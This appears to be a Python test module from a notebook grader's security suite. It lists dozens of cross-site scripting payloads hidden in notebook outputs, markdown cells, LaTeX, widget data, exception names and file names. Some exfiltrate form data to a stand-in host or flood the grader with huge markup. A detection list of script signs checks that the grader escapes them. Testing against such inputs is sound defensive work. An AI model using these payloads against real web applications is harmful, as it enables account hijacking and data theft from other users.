"""The instructor's browser: scripts in what a notebook shows, run with the instructor's rights."""

# ruff: noqa: E501  (what an attack runs stands here as it is run)

from tests.hostile.attack import Attack, Result, code, family, written

RUN = "window.gained = 1"
FAR = "https://far.example/"
SIGNS = (
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "javascript:",
    "far.example",
    "<iframe",
    "srcdoc",
    "<svg",
    "<form",
    "<meta",
    "<base",
)


def runs(result: Result) -> str:
    """What could run, or tell somebody: as it stands in the notebook, unless it is escaped."""
    return ", ".join(sign for sign in SIGNS if any(sign in text.lower() for text in result.markup))


def _shows(name: str, mime: str, content: object, wants: str = "to run a script") -> Attack:
    source = f"display({{{mime!r}: {content!r}, 'text/plain': 'attacked'}}, raw=True)"
    return Attack(name, wants, (code(source),), gained=runs, shows="")


def _html(name: str, content: str, wants: str = "to run a script") -> Attack:
    return _shows(name, "text/html", content, wants)


ATTACKS = family(
    "browser",
    [
        _html("script", f"<script>{RUN}</script>"),
        _html("script in capital letters", f"<ScRiPt >{RUN}</sCrIpT>"),
        _html("picture that fails", f"<img src=x onerror='{RUN}'>"),
        _html("picture that is not closed", f"<img src=x onerror='{RUN}' "),
        _html("drawing", f"<svg onload='{RUN}'><script>{RUN}</script></svg>"),
        _html("comment that ends early", f"<!--><img src=x onerror='{RUN}'>-->"),
        _html("comment that ends otherwise", f"<!-- --!><img src=x onerror='{RUN}'> -->"),
        _html("section that is none", f"<![CDATA[ ><img src=x onerror='{RUN}'> ]]>"),
        _html("instruction", f"<?xml ><img src=x onerror='{RUN}'>?>"),
        _html(
            "page in a page",
            f"<iframe srcdoc='<script>parent.gained = 1</script>'></iframe><iframe src='javascript:{RUN}'></iframe>",
        ),
        _html(
            "link",
            f"<a href='javascript:{RUN}'>marks</a><a href='&#106;avascript:{RUN}'>marks</a><a href='java\tscript:{RUN}'>marks</a>",
        ),
        _html(
            "attributes",
            f"<details open ontoggle='{RUN}'><summary>x</summary></details><input autofocus onfocus='{RUN}'><p/onclick='{RUN}'>x</p>",
        ),
        _html(
            "page for a picture",
            f"<img src='data:text/html,<script>{RUN}</script>'><object data='data:text/html,<script>{RUN}</script>'></object><embed src='javascript:{RUN}'>",
        ),
        _html(
            "drawing for a picture",
            f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
        ),
        _html(
            "math that is a drawing",
            f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN!r}&gt;'>",
        ),
        _html(
            "form", f"<form action='{FAR}'><input name=marks><button>Save</button></form>", "what an instructor types"
        ),
        _html(
            "meta, base and link",
            f"<meta http-equiv=refresh content='0;url={FAR}'><base href='{FAR}'><link rel=stylesheet href='{FAR}x.css'>",
            "to lead elsewhere",
        ),
        _html(
            "picture from elsewhere",
            f"<img src='{FAR}x.png'><audio src='{FAR}x.wav'></audio>",
            "to know who opens the page",
        ),
        _html(
            "style that loads",
            f"<div style=\"background:url('{FAR}x.png')\">x</div><p style='background:u\\72l({FAR}y.png)'>y</p>",
            "to know who opens the page",
        ),
        _html(
            "style sheet that loads",
            f"<style>@import '{FAR}a.css'; @\\69mport '{FAR}b.css'; p {{background: image-set('{FAR}c.png' 1x)}}</style><p>x</p>",
            "to know who opens the page",
        ),
        _html("formula that is a link", r"$\href{javascript:window.gained=1}{marks}$"),
        _html("much markup that is none", "<a " * 15_000, "the grader's time"),
        _html("many comments that are none", "<!--" * 15_000, "the grader's time"),
        _html("an attribute that never ends", '<a x="' * 15_000, "the grader's time"),
        _html("boxes in boxes", "<div><p>" * 100_000, "the grader's time"),
        Attack(
            "pictures that are none",
            "the grader's time",
            (written("markdown", "![ " * 300_000),),
            shows="",
        ),
        _shows("script as its own kind", "application/javascript", RUN),
        _shows(
            "drawing as its own kind",
            "image/svg+xml",
            f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script></svg>",
        ),
        _shows(
            "widget",
            "application/vnd.jupyter.widget-view+json",
            {"model_id": "1", "version_major": 2, "x": f"<script>{RUN}</script>"},
        ),
        _shows("chart", "application/vnd.vegalite.v5+json", {"usermeta": f"<script>{RUN}</script>"}),
        _shows("picture that is markup", "image/png", f'"><script>{RUN}</script>'),
        _shows("photograph that is markup", "image/jpeg", f"x' onerror='{RUN}"),
        _shows("text with a script", "text/markdown", f"# Marks\n\n<script>{RUN}</script>"),
        _shows(
            "text with a link",
            "text/markdown",
            f"[marks](javascript:{RUN.replace(' ', '')}) <javascript:{RUN.replace(' ', '')}>",
        ),
        _shows(
            "text with a picture from elsewhere", "text/markdown", f"![marks]({FAR}x.png)", "to know who opens the page"
        ),
        _shows(
            "formula that loads",
            "text/latex",
            rf"$\bbox[background:url({FAR}x.png)]{{x}}$",
            "to know who opens the page",
        ),
        _shows("formula", "text/latex", r"$\href{javascript:window.gained=1}{marks}$ \unicode{<script>}"),
        Attack(
            "cell of text",
            "to run a script",
            (written("markdown", f"Marks <script>{RUN}</script><img src=x onerror='{RUN}'>"),),
            gained=lambda result: "<script" * any("<script" in text or "<img src=x" in text for text in result.markup),
            shows="",
        ),
        Attack(
            "cell of text with a link",
            "to run a script",
            (
                written(
                    "markdown", "[marks](javascript:window.gained=1)\n\n[marks][1]\n\n[1]: javascript:window.gained=1"
                ),
            ),
            gained=runs,
            shows="",
        ),
        Attack(
            "cell of text with a picture from elsewhere",
            "to know who opens the page",
            (written("markdown", f"![marks]({FAR}x.png)"),),
            gained=runs,
            shows="",
        ),
        Attack(
            "raw cell",
            "to run a script",
            (written("raw", f"<script>{RUN}</script>"),),
            gained=lambda result: "<script" * any("<script" in text for text in result.markup),
            shows="",
        ),
        Attack(
            "an answer in words",
            "to run a script",
            (
                code("from IPython.display import HTML, Javascript, SVG, display\nprint('attacked')"),
                code(f"HTML('<script>{RUN}</script>')"),
                code(f"%%html\n<script>{RUN}</script>"),
                code(f"%%javascript\n{RUN}"),
                code(f"%%svg\n<svg onload='{RUN}'/>"),
                code(f"%%markdown\n<script>{RUN}</script>"),
                code(f"Javascript({RUN!r})"),
            ),
            gained=runs,
        ),
        Attack(
            "an object that shows itself",
            "to run a script",
            (
                code(
                    f"class Shown:\n    def _repr_mimebundle_(self, **_): return {{'text/html': '<script>{RUN}</script>', 'application/javascript': {RUN!r}}}, {{'text/html': {{'isolated': True}}}}\n    def _repr_html_(self): return '<script>{RUN}</script>'\nShown()"
                ),
            ),
            gained=runs,
            shows="",
        ),
        Attack(
            "the words of a verdict",
            "to run a script where the judge speaks",
            (code("print('attacked')"),),
            {"hann": f"def hann(n): raise ValueError(\"<script>{RUN}</script><img src=x onerror='{RUN}'>\")"},
            gained=lambda result: (
                "<script"
                * any("<script" in output["data"].get("text/html", "") for output in result.outputs if "data" in output)
            ),
        ),
        Attack(
            "the name of an exception",
            "to run a script where the judge speaks",
            (code(f"Shown = type(\"<script>{RUN}</script>\", (Exception,), {{}})\nprint('attacked')"),),
            {"hann": "def hann(n): raise Shown()"},
            gained=lambda result: (
                "<script"
                * any("<script" in output["data"].get("text/html", "") for output in result.outputs if "data" in output)
            ),
        ),
        Attack(
            "the name of a file",
            "to run a script where the report names files",
            (code("print('attacked')"),),
            ships={f"<script>{RUN}</script>.ipynb": b"{}"},
            shows="attacked",
        ),
    ],
)
